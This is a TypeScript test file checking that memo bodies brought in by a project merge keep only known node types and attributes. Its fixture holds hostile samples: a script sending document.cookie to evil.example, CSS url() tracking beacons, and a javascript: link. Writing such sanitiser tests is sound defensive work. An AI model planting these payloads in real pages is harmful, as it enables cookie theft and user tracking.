import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { call, testSession } from '../support/session.ts';
import { makeTempDir } from '../support/tempDir.ts';

/** A memo body no memo editor wrote: an unknown node, a tracking style, a script link. */
const HOSTILE = JSON.stringify({
  root: {
    type: 'root',
    version: 1,
    children: [
      { type: 'script', text: 'fetch("https://evil.example/?d=" + document.cookie)' },
      {
        type: 'paragraph',
        version: 1,
        textStyle: 'background: url(https://evil.example/p.png)',
        children: [
          {
            type: 'text',
            version: 1,
            text: 'Note',
            style: 'background-image: url(https://evil.example/t.png)',
          },
          {
            type: 'link',
            version: 1,
            url: 'javascript:alert(1)',
            children: [{ type: 'text', text: ' lien' }],
          },
        ],
      },
    ],
  },
});

describe('memos brought in by a merge', () => {
  it('keep only the node types and attributes the memo editor knows', async () => {
    const dir = makeTempDir('memo-bodies');
    const leadPath = join(dir, 'lead.verbatim');
    const otherPath = join(dir, 'other.verbatim');
    const lead = testSession();
    await call(lead, 'project/create', { path: leadPath });
    lead.close();
    copyFileSync(leadPath, otherPath);

    const other = testSession();
    await call(other, 'project/open', { path: otherPath });
    await call(other, 'memos/save', {
      targetKind: 'project',
      targetId: null,
      title: 'Piège',
      body: HOSTILE,
      plainText: 'Note lien',
    });
    other.close();

    await call(lead, 'project/open', { path: leadPath });
    await call(lead, 'project/merge', { path: otherPath });
    const [summary] = await call(lead, 'memos/list', {});
    const memo = await call(lead, 'memos/get', { id: summary?.id ?? 0 });
    expect(memo.body).not.toMatch(/script|url\(|javascript/u);
    expect(memo.body).toContain('Note');
    expect(memo.body).toContain(' lien');
    expect(memo.plainText).toBe('Note lien');
    lead.close();
  });
});
